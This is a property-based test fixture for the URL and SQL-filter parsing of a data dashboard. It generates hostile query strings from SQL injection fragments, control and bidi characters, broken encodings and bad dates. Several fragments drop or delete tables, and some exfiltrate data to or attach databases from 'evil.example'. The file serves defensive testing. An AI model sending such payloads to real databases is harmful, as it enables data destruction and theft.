// Hostile query strings, by family, shared by the URL codec tests (tests/url/hostile-url.test.ts) and the
// filter-to-SQL tests (tests/query/hostile-sql.test.ts). Each family yields whole query strings and says which
// parameters in it can never be valid (so the parser must have said something about them).
import fc from 'fast-check';
import { SYRIA_PCODES } from '../../src/lib/data/gazetteer';
import { ATTACK_TYPES, SOURCE_DATASETS, TARGET_TYPES } from '../../src/lib/data/taxonomy';

/** A generated query string and the parameter names whose hostile value no valid state can hold. */
export interface HostileUrl {
	search: string;
	/** Parameter names that must appear in some notice (their value was hostile and had to be ignored). */
	mustNotice: string[];
	/** Free-text values (perpetrator names, search text) the state must keep as data, as the URL meant them. */
	freeText: { name: (typeof FREE_PARAMS)[number]; value: string }[];
}

/** Parameters whose values come from closed lists or fixed formats: no hostile text is ever valid there. */
export const CLOSED_PARAMS = ['from', 'to', 'province', 'target', 'attack', 'source', 'min', 'grain', 'stack', 'measure', 'sort', 'dir', 'page'] as const;
/** Parameters that carry free text (kept when well formed, always bound as SQL parameters). */
export const FREE_PARAMS = ['perp', 'q'] as const;
export const KNOWN_PARAMS = [...CLOSED_PARAMS, ...FREE_PARAMS] as const;

export const SQL_FRAGMENTS = [
	"' OR '1'='1",
	"'; DROP TABLE rasd.incidents; --",
	'1) UNION SELECT * FROM rasd.meta --',
	"SY01' OR 1=1 --",
	"Police'); DELETE FROM rasd.incidents; --",
	'" OR ""="',
	"'; ATTACH 'http://evil.example/x.db' AS x; --",
	"'; COPY rasd.incidents TO 'http://evil.example/out.csv'; --",
	"'; INSTALL httpfs; LOAD httpfs; --",
	"x' UNION ALL SELECT source_sha256, built_at FROM rasd.meta --",
	'$1',
	'?',
	'?, ?',
	"\\'",
	"%' ESCAPE '",
	'/* comment */',
	'1; SELECT pg_sleep(10)',
	'CHAR(39)',
	'0x27',
	"'||(SELECT version())||'",
	'`id`',
	"';PRAGMA database_list;--",
	"a'::VARCHAR --",
	'NULL',
	'%_%'
];

const C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i));
export const CONTROL_CHARS = [...C0, '\u007f', '\u0085', '\u2028', '\u2029', '\ufeff'];
export const BIDI_CONTROLS = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
/** Percent-encodings that decodeURIComponent rejects: cut sequences, stray continuation bytes, Latin-1 bytes,
 *  overlong forms, encoded surrogates, code points past U+10FFFF, and a bare or malformed `%`. */
export const BROKEN_ENCODINGS = ['%E0%A4%A', '%FF', '%', '%G1', '%C0%AF', '%ED%A0%80', '%F4%90%80%80', '%E9', '%8F', '%E2%80', '%C3', '%%', '%2', '%u202E', '%F0%9F%98'];
/** Dates no valid state holds: years 0, 99999 and negative, impossible days, other formats. */
export const BAD_DATES = [
	'0000-01-01', '0000-00-00', '99999-12-31', '99999-01-01', '-0001-01-01', '+002023-01-01', '0999-12-31',
	'2023-02-29', '2023-13-01', '2023-00-10', '2023-04-31', '2023-1-1', '20230101', '2023/01/01', '01-01-2023',
	'2023-01-01T00:00:00Z', '2023-01-01 ', ' 2023-01-01', '２０２３-01-01', '٢٠٢٣-٠١-٠١', 'Infinity', 'NaN', 'null', '1e9'
];

const pick = <T>(xs: readonly T[]) => fc.constantFrom(...xs);

/** Either percent-encoded (as a browser would send it) or raw (as someone might type or paste it). */
const encodedOrRaw = (value: string) =>
	// Raw except `#` and `&`, which end the value (the fragment, the next parameter) rather than being part of it.
	fc.boolean().map((enc) => (enc ? safeEncode(value) : value.replace(/#/g, '%23').replace(/&/g, '%26')));

/** encodeURIComponent that cannot throw on lone surrogates (they are written as the broken `%ED%A0%80` form). */
export function safeEncode(value: string): string {
	try {
		return encodeURIComponent(value);
	} catch {
		return value.replace(/[\uD800-\uDFFF]/g, '%ED%A0%80').split('%ED%A0%80').map(encodeURIComponent).join('%ED%A0%80');
	}
}

/** A string containing the hostile `core` somewhere, with some ordinary text around it. */
const around = (core: fc.Arbitrary<string>) =>
	fc.tuple(fc.string({ maxLength: 6 }), core, fc.string({ maxLength: 6 })).map(([a, c, b]) => `${a}${c}${b}`);

/** One `name=value` piece for a closed parameter whose value is hostile; the name is recorded as must-notice. */
function closedPiece(value: fc.Arbitrary<string>): fc.Arbitrary<HostileUrl> {
	return fc.tuple(pick(CLOSED_PARAMS), value).chain(([name, v]) =>
		encodedOrRaw(v).map((enc) => ({ search: `${name}=${enc}`, mustNotice: [name], freeText: [] }))
	);
}

/** One piece for a free-text parameter: kept as data when well formed, so nothing must be noticed. */
function freePiece(value: fc.Arbitrary<string>): fc.Arbitrary<HostileUrl> {
	return fc.tuple(pick(FREE_PARAMS), value).map(([name, v]) => ({
		search: `${name}=${safeEncode(v)}`,
		mustNotice: [],
		freeText: [{ name, value: v }]
	}));
}

/** Joins pieces into one query string (with or without the leading `?`). */
function joined(pieces: fc.Arbitrary<HostileUrl[]>): fc.Arbitrary<HostileUrl> {
	return fc.tuple(pieces, fc.boolean()).map(([ps, q]) => ({
		search: `${q ? '?' : ''}${ps.map((p) => p.search).join('&')}`,
		mustNotice: [...new Set(ps.flatMap((p) => p.mustNotice))],
		freeText: ps.flatMap((p) => p.freeText)
	}));
}

/** A mix of hostile pieces and valid ones (so hostile values sit next to values that must still be read). */
function family(hostile: fc.Arbitrary<HostileUrl>): fc.Arbitrary<HostileUrl> {
	const valid: fc.Arbitrary<HostileUrl> = fc
		.oneof(
			pick(SYRIA_PCODES).map((p) => `province=${p}`),
			pick(TARGET_TYPES).map((t) => `target=${encodeURIComponent(t)}`),
			pick(ATTACK_TYPES).map((t) => `attack=${encodeURIComponent(t)}`),
			pick(SOURCE_DATASETS).map((s) => `source=${s}`),
			fc.constant('grain=week'),
			fc.constant('from=2023-01-01')
		)
		.map((search) => ({ search, mustNotice: [], freeText: [] }));
	return joined(fc.array(fc.oneof({ weight: 3, arbitrary: hostile }, { weight: 1, arbitrary: valid }), { minLength: 1, maxLength: 6 }));
}

const fragment = pick(SQL_FRAGMENTS);
const control = pick(CONTROL_CHARS);
/** Controls that are not white space: a closed value carrying one can never be trimmed into a valid one. */
const hardControl = pick(CONTROL_CHARS.filter((c) => !/\s/.test(c)));
const bidi = pick(BIDI_CONTROLS);

export const FAMILIES = {
	/** SQL fragments in closed parameters (ignored with a notice) and free-text ones (kept, bound as data). */
	sqlFragments: family(fc.oneof(closedPiece(around(fragment)), freePiece(around(fragment)))),

	/** NUL, C0/C1 controls, line and paragraph separators, BOM: raw or percent-encoded, anywhere. */
	controlChars: family(
		fc.oneof(
			closedPiece(around(fc.tuple(control, hardControl).map(([c, h]) => `${c}${h}`))),
			freePiece(fc.tuple(around(control), fc.string({ minLength: 1, maxLength: 4 })).map(([a, b]) => `${b}${a}`)),
			// A control character in the parameter name: an unknown parameter.
			fc.tuple(pick(KNOWN_PARAMS), control).map(([n, c]) => ({ search: `${n}${safeEncode(c)}=1`, mustNotice: ['unknown parameter'], freeText: [] }))
		)
	),

	/** Bidi overrides and isolates (U+202E and friends) in values and names. */
	bidiControls: family(
		fc.oneof(
			closedPiece(around(bidi)),
			freePiece(fc.tuple(bidi, fc.constantFrom('Group Alpha', 'حلب', 'exe.txt', 'abc')).map(([b, s]) => `${s}${b}${s}`)),
			fc.tuple(bidi, pick(KNOWN_PARAMS)).map(([b, n]) => ({ search: `${safeEncode(b)}${n}=SY01`, mustNotice: ['unknown parameter'], freeText: [] }))
		)
	),

	/** Years 0 and 99999, negative years, impossible days, other date formats. */
	extremeDates: family(
		fc.tuple(pick(['from', 'to'] as const), pick(BAD_DATES)).map(([n, d]) => ({ search: `${n}=${safeEncode(d)}`, mustNotice: [n], freeText: [] }))
	),

	/** from after to: both ends dropped with one notice. */
	reversedRanges: fc
		.tuple(fc.integer({ min: 0, max: 3_000_000 }), fc.integer({ min: 1, max: 3_000_000 }), fc.boolean())
		.map(([a, gap, toFirst]) => {
			const day = (n: number) => new Date(Date.UTC(1000, 0, 1) + n * 86_400_000).toISOString().slice(0, 10);
			const to = day(a);
			const from = day(Math.min(a + gap, 3_287_000));
			const pieces = toFirst ? [`to=${to}`, `from=${from}`] : [`from=${from}`, `to=${to}`];
			return { search: `?${pieces.join('&')}`, mustNotice: from > to ? ['date range'] : [], freeText: [] };
		}),

	/** The same parameter again and again: the first scalar value wins, list values merge (up to the cap). */
	repeatedKeys: fc
		.tuple(pick(KNOWN_PARAMS), fc.array(fc.oneof(fc.constant('SY01'), fc.constant('week'), fc.constant('2023-01-01'), fc.constant('5'), fragment), { minLength: 2, maxLength: 30 }))
		.map(([name, values]) => ({ search: values.map((v) => `${name}=${safeEncode(v)}`).join('&'), mustNotice: [], freeText: [] })),

	/** Percent-encoding decodeURIComponent rejects, in values and names. */
	brokenEncoding: family(
		fc.oneof(
			fc.tuple(pick(KNOWN_PARAMS), pick(BROKEN_ENCODINGS), fc.string({ maxLength: 4 }).map(encodeURIComponent)).map(([n, b, s]) => ({
				search: `${n}=${s}${b}`,
				mustNotice: [n],
				freeText: []
			})),
			fc.tuple(pick(KNOWN_PARAMS), pick(BROKEN_ENCODINGS)).map(([n, b]) => ({ search: `${n}${b}=1`, mustNotice: ['unknown parameter'], freeText: [] }))
		)
	)
};

export type FamilyName = keyof typeof FAMILIES;

/** `count` comma-separated list values (valid, invalid, duplicates and hostile ones mixed). */
export const hugeList = (count: number) =>
	fc
		.tuple(
			fc.constantFrom('province', 'perp', 'target', 'attack', 'source'),
			fc.array(fc.oneof(pick(SYRIA_PCODES), pick(TARGET_TYPES), fragment, fc.string({ minLength: 1, maxLength: 12 })), { minLength: 20, maxLength: 20 }),
			fc.integer({ min: 0, max: 1_000_000 })
		)
		.map(([name, pool, seed]) => {
			const values = Array.from({ length: count }, (_, i) => `${pool[(i * 7 + seed) % pool.length]}${i % 3 === 0 ? i : ''}`);
			return { name, values, search: `?${name}=${values.map(safeEncode).join(',')}` };
		});

/** A value of about `bytes` characters made by repeating a random chunk (fast to build at a megabyte). */
export const megabyteValue = (bytes: number) =>
	fc
		.tuple(fc.constantFrom(...KNOWN_PARAMS.filter((n) => n !== 'dir'), 'x'), fc.oneof(fc.string({ minLength: 1, maxLength: 16 }), fragment), fc.constantFrom('value', 'name', 'list'))
		.map(([name, chunk, where]) => {
			const big = chunk.repeat(Math.ceil(bytes / chunk.length)).slice(0, bytes);
			const enc = safeEncode(big);
			// `dir=asc` after the huge piece: an ordinary parameter that must still be read.
			if (where === 'name') return { name, search: `?${enc}=1&dir=asc` };
			if (where === 'list') return { name, search: `?${name}=${enc},${enc}&dir=asc` };
			return { name, search: `?${name}=${enc}&dir=asc` };
		});
